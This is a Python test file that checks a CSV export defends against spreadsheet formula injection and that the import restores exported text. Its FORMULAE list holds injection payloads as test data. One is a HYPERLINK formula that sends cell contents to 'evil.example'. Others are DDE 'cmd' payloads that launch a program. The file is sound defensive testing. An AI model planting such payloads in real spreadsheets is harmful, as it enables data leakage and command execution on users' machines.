"""A spreadsheet that opens an export calculates nothing, and the import gives back what was exported."""

import csv
import gzip
import io
import json
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from upshot import export
from upshot.tabular import Rows

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
FORMULAE = (
    *(f"{sign}1+1" for sign in SIGNS), *SIGNS, '=HYPERLINK("https://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2", "+49 30 1234", "-5", "--1", "=1,2", '="a"', "\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1",
    "\nx", "\r\n=1", "\x00=1+1",
    "\x00x", " =1+1", "  -1", "\u00a0=1+1", "\ufeff=1+1", "\u3000＝1", "=1+1\n=2+2", "='x'",
)  # fmt: skip
HARMLESS = (
    "", "u1", "a=b", "1-2", "x@example.com", "'", "'x", "''", '"=1"', "1", "país", "🙂", "a\tb", "a,b", 'a"b', "a\nb",
    '{"a": "=1"}', "#1", "/x",
    "'a'=b",
)  # fmt: skip
Cells = Sequence[Sequence[Any]]


async def batches(rows: Cells) -> AsyncIterator[list[tuple[Any, ...]]]:
    """Rows as a store gives them."""
    yield [tuple(row) for row in rows]


async def exported(columns: Sequence[str], rows: Cells) -> str:
    """What the export writes."""
    return b"".join([chunk async for chunk in export.to_csv(columns, batches(rows))]).decode()


def plain(columns: Sequence[str], rows: Cells) -> str:
    """What a CSV writer alone writes."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([columns, *rows])
    return text.getvalue()


def calculated(text: str) -> list[str]:
    """The cells that a spreadsheet would calculate, by the first of their characters that it sees; numbers it may have."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if not is_number(cell)]
    return [
        cell for cell in cells if cell[:1] in set("\t\r\n\0") or cell.lstrip(" \u00a0\u3000\ufeff")[:1] in set(SIGNS)
    ]


def is_number(cell: str) -> bool:
    """Whether a cell is a number as the export writes one."""
    try:
        return repr(float(cell)) == cell
    except ValueError:
        return False


async def test_no_cell_of_an_export_is_calculated() -> None:
    """Each begins with a quote, columns' names too; nothing else about the text changes."""
    text = await exported(["user_id", *FORMULAE], [[f, *FORMULAE] for f in FORMULAE])

    assert calculated(text) == []
    (names, *rows) = csv.reader(io.StringIO(text, newline=""))
    assert names == ["user_id", *(f"'{formula}" for formula in FORMULAE)]
    assert [row[0] for row in rows] == [f"'{formula}" for formula in FORMULAE]


def test_a_csv_writer_alone_is_caught() -> None:
    """The check above can fail: every one of the cells would be calculated."""
    text = plain(["user_id"], [[formula] for formula in FORMULAE])

    assert calculated(text) == list(FORMULAE)


async def test_numbers_stay_numbers_and_other_texts_stay_as_they_are() -> None:
    """A negative number is no formula, and a quote elsewhere means nothing."""
    text = await exported(["text", "number"], [[harmless, -1.5] for harmless in HARMLESS])

    (_, *rows) = csv.reader(io.StringIO(text, newline=""))
    assert [row[0] for row in rows] == list(HARMLESS)
    assert {float(row[1]) for row in rows} == {-1.5}


@given(st.text(st.sampled_from("'=+-@＝\t\r\n\0 \ufeffa1"), max_size=8))
def test_every_text_comes_back(text: str) -> None:
    """However many quotes it has had before: one is added, and one is taken away."""
    assert export.restored(export.harmless(text)) == text


@pytest.mark.parametrize("restored", [export.restored, lambda cell: cell, lambda cell: cell.removeprefix("'")])
def test_a_reader_that_takes_no_quote_or_every_quote_is_caught(restored: Callable[[str], str]) -> None:
    """The check above can fail."""
    texts = ("=1", "'=1", "'x", "x")

    right = [restored(export.harmless(text)) == text for text in texts]

    assert all(right) == (restored is export.restored)


async def test_quotes_around_texts_are_part_of_them(tmp_path: Path) -> None:
    """However many there are: the reader does not guess that they quote the cells."""
    path = tmp_path / "rows.csv"
    rows = [["'x'", "=a,b", "2026-01-01T00:00:00Z"]] * 3
    path.write_bytes((await exported(["user_id", "variant", "assigned_at"], rows)).encode())

    found = [json.loads(line) for line in Rows(path, "assignments").lines()]

    assert [(row["user_id"], row["variant"]) for row in found] == [("'x'", "=a,b")] * 3


@pytest.mark.parametrize("suffix", [".csv", ".csv.gz"])
async def test_an_import_gives_back_what_was_exported(tmp_path: Path, suffix: str) -> None:
    """Ids, names of columns and their texts, from a file in which every row has a formula."""
    texts = [*FORMULAE, *(harmless for harmless in HARMLESS if harmless)]
    path = tmp_path / f"rows{suffix}"
    rows = [[text, "=a", "2026-01-01T00:00:00Z", f"x{text}", f"{text}x"] for text in texts]
    content = (await exported(["user_id", "variant", "assigned_at", "other", "=column"], rows)).encode()
    path.write_bytes(gzip.compress(content) if suffix.endswith("gz") else content)

    found = [json.loads(line) for line in Rows(path, "assignments").lines()]

    assert [row["user_id"] for row in found] == texts
    assert {row["variant"] for row in found} == {"=a"}
    assert [row["context"]["other"] for row in found] == [f"x{text}" for text in texts]
    assert [row["context"]["=column"] for row in found] == [f"{text}x" for text in texts]
